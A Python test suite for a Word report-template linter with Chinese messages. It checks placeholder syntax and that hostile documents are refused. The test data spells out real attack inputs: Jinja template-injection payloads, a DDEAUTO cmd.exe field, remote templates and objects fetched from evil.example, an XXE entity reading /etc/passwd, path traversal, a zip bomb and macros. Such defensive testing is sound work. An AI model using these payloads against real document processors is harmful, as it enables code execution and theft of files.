"""What a template may say, and what is refused: every problem with its place and the nearest right name."""

from __future__ import annotations

import pytest
from jinja2 import TemplateError
from jinja2.exceptions import SecurityError

from lookout.web.reports.build import template_of
from lookout.web.reports.kinds import Kind, kind_of, kinds
from lookout.web.reports.lint import lint
from lookout.web.reports.template_language import TemplateEnvironment
from tests.web.reports.word_files import opened, replaced, saved, text_of, with_part, with_parts, written

DOCUMENT = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"


def brief_kind() -> Kind:
    return kind_of("brief")


def problems(data: bytes) -> list[str]:
    return [str(one) for one in lint(data, brief_kind())]


@pytest.mark.parametrize("code", list(kinds()))
def test_the_shipped_template_of_every_kind_passes_the_check(code: str) -> None:
    assert lint(template_of(kind_of(code)), kind_of(code)) == []


def test_the_shipped_template_speaks_the_officers_names() -> None:
    text = text_of(template_of(brief_kind()))

    assert "{{ 新建线索数 }}" in text
    assert "clues_new" not in text


def test_all_problems_are_told_with_place_and_nearest_name() -> None:
    told = lint(
        written(
            "{{ 红色企业 }}户",
            "{{ 标题 }}{{ 无此物 }}",
            "{%p if 每日综述 %}",
            rows=[["a", "b"], ["{{ 橙色企业数量 }}", "c"]],
        ),
        brief_kind(),
    )

    assert [one.where.split("“")[0] for one in told] == [
        "正文第 1 段",
        "正文第 2 段",
        "表 1 第 2 行第 1 列",
        "正文第 3 段",
    ]
    assert "没有“红色企业”这个占位符" in told[0].what
    assert told[0].example == "{{ 红色企业数 }}"
    assert told[2].example == "{{ 橙色企业数 }}"
    assert "没有结束" in told[3].what


def test_keys_and_chinese_names_both_stand() -> None:
    assert problems(written("{{ red }} {{ 红色企业数 }} {{ title }}")) == []


@pytest.mark.parametrize(
    ("texts", "expected"),
    [
        (["{{ 标题 "], "没有配对"),
        (["标题 }}"], "没有配对"),
        (["｛｛ 标题 ｝｝"], "全角"),
        (["{{ }}"], "空的"),
        (["{{ 标题 | upper }}"], "过滤器"),
        (["{{ 标题() }}"], "调用函数"),
        (["{{ ''.__class__.__mro__ }}"], "_"),
        (["{{ 标题.__class__ }}"], "__class__"),
        (["{{ 标题['__class__'] }}"], "_"),
        (["{{ 7 * 7 }}"], "不能使用"),
        (["{{ 'a' * 100000000 }}"], "不能使用"),
        (["{% set x = 1 %}"], "不支持"),
        (["{% include 'a' %}"], "不支持"),
        (["{% import 'os' as os %}"], "不支持"),
        (["{% autoescape false %}"], "不支持"),
        (["{% raw %}"], "不支持"),
        (["{%- if 标题 -%}"], "减号"),
        (["{%tc if 标题 %}"], "不支持"),
        (["{{r 标题 }}"], "去掉字母"),
        (["前 {%p if 标题 %}", "{%p endif %}"], "独占一段"),
        (["{% if 标题 %}", "{% endif %}"], "同一段"),
        (["{%p endif %}"], "没有对应"),
        (["{%p if 标题 %}", "{% endif %}"], "这里也应写"),
        (["{%p for 行 in 红色企业数 %}", "{%p endfor %}"], "不是表"),
        (["{%p for 标题 in 重点企业表 %}", "{%p endfor %}"], "已是占位符"),
        (["{%p for 行 in range(9) %}", "{%p endfor %}"], "调用函数"),
        (["{%tr for 行 in 重点企业表 %}"], "表格的行里"),
        (["见{{ 重点企业表 }}"], "独占一段"),
        (
            ["{%p for a in 重点企业表 %}", "{%p for b in 重点企业表 %}", "{%p endfor %}", "{%p endfor %}"],
            "再有循环",
        ),
        (["{%p for a in 重点企业表 %}", "{{ a.企业 }}", "{%p endfor %}", "{{ a.企业 }}"], "没有“a”"),
    ],
)
def test_what_the_language_does_not_have_is_refused(texts: list[str], expected: str) -> None:
    told = problems(written(*texts))

    assert any(expected in one for one in told), told


def test_a_loop_over_rows_of_a_table_is_fine_and_a_torn_one_is_not() -> None:
    loop = [
        ["{%tr for 行 in 重点企业表 %}", ""],
        ["{{ 行.企业 }}", "{{ loop.index }}"],
        ["{%tr endfor %}", ""],
    ]

    assert problems(written(rows=loop)) == []
    assert "不同行" in "".join(problems(written(rows=[["{%tr for 行 in 重点企业表 %}", "{%tr endfor %}"]])))
    assert "没有 loop.cycle" in "".join(problems(written(rows=[loop[0], ["{{ loop.cycle }}", ""], loop[2]])))


def test_a_placeholder_with_an_open_revision_is_refused() -> None:
    data = written("{{ 标题 }}")
    data = replaced(data, DOCUMENT, b"<w:r>", b'<w:ins w:id="1" w:author="a"><w:r>')
    data = replaced(data, DOCUMENT, b"</w:r>", b"</w:r></w:ins>")

    assert "修订" in "".join(problems(data))


def test_placeholders_in_properties_are_not_filled_and_say_so() -> None:
    document = opened(written("{{ 标题 }}"))
    document.core_properties.title = "{{ 标题 }}"

    assert "文件属性" in "".join(problems(saved(document)))


# ---- files that attack ---------------------------------------------------------------------------
def test_a_macro_is_refused_whatever_the_file_is_called() -> None:
    document = written("{{ 标题 }}")
    macro = with_part(document, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    renamed = replaced(
        document,
        "[Content_Types].xml",
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )

    assert "宏" in "".join(problems(macro))
    assert "宏" in "".join(problems(renamed))


@pytest.mark.parametrize(
    ("kind", "target", "expected"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm", "读取外部内容"),
        ("image", "file:////evil/share/a.png", "读取外部内容"),
        ("oleObject", "http://evil.example/a", "对象"),
        ("aFChunk", "http://evil.example/a.html", "对象"),
        ("subDocument", "a.docx", "对象"),
        ("hyperlink", "file:///etc/passwd", "不是网址"),
        ("hyperlink", "javascript:alert(1)", "不是网址"),
    ],
)
def test_what_is_fetched_or_run_on_opening_is_refused(kind: str, target: str, expected: str) -> None:
    relation = (
        '<Relationship Id="rId99" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{kind}" Target="{target}"/></Relationships>'
    )

    told = problems(replaced(written("x"), RELATIONS, b"</Relationships>", relation.encode()))

    assert any(expected in one for one in told), told


def test_an_embedded_object_is_refused() -> None:
    assert "嵌入" in "".join(problems(with_part(written("x"), "word/embeddings/oleObject1.bin", b"x")))


@pytest.mark.parametrize(
    "code", ['DDEAUTO c:\\\\cmd.exe "/k calc"', "INCLUDETEXT http://evil", "QUOTE 68 68 69", "IF 1=1"]
)
def test_a_field_that_does_more_than_show_is_refused(code: str) -> None:
    field = f'<w:p><w:fldSimple w:instr="{code.replace(chr(34), "&quot;")}"/></w:p></w:body>'

    assert "域" in "".join(problems(replaced(written("x"), DOCUMENT, b"</w:body>", field.encode())))


def test_a_field_torn_over_several_runs_is_read_as_one() -> None:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("INCL", "UDETEXT", " x"))
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))

    data = replaced(written("x"), DOCUMENT, b"</w:body>", f"<w:p>{begin}{runs}{end}</w:p></w:body>".encode())

    assert "INCLUDETEXT" in "".join(problems(data))


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = with_part(written("x"), "word/media/a.xml", b" " * 5_000_000)

    assert "异常巨大" in "".join(problems(bomb))


def test_entities_are_refused_before_anything_is_parsed() -> None:
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'

    assert "DOCTYPE" in "".join(problems(with_part(written("x"), "word/comments.xml", entity)))


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04junk", b"%PDF-1.7", b"\xd0\xcf\x11\xe0" * 100])
def test_what_is_no_word_file_is_refused(data: bytes) -> None:
    assert len(problems(data)) == 1


def test_paths_out_of_the_file_are_refused() -> None:
    assert "越出" in "".join(problems(with_part(written("x"), "../../evil.xml", b"<a/>")))


def test_a_workbook_is_no_template() -> None:
    data = with_parts(written("x"), lambda parts: parts.pop("word/document.xml"))

    assert "不是 Word" in "".join(problems(data))


# ---- the last line, when all else were passed ------------------------------------------------------
@pytest.mark.parametrize(
    "source",
    [
        "{{ ().__class__ }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ lipsum() }}",
        "{{ x|attr('__class__') }}",
        "{% for a in x %}{% for b in x %}{% endfor %}{% endfor %}",
        "{% for a in [1,2] %}{% endfor %}",
        "{% macro m() %}{% endmacro %}",
        "{{ x.y.z }}",
        "{{ x[y] }}",
        "{{ 10 ** 10 }}",
    ],
)
def test_the_environment_itself_refuses_to_compile_an_attack(source: str) -> None:
    with pytest.raises((SecurityError, TemplateError)):
        TemplateEnvironment().from_string(source).render(x=[], y=1)
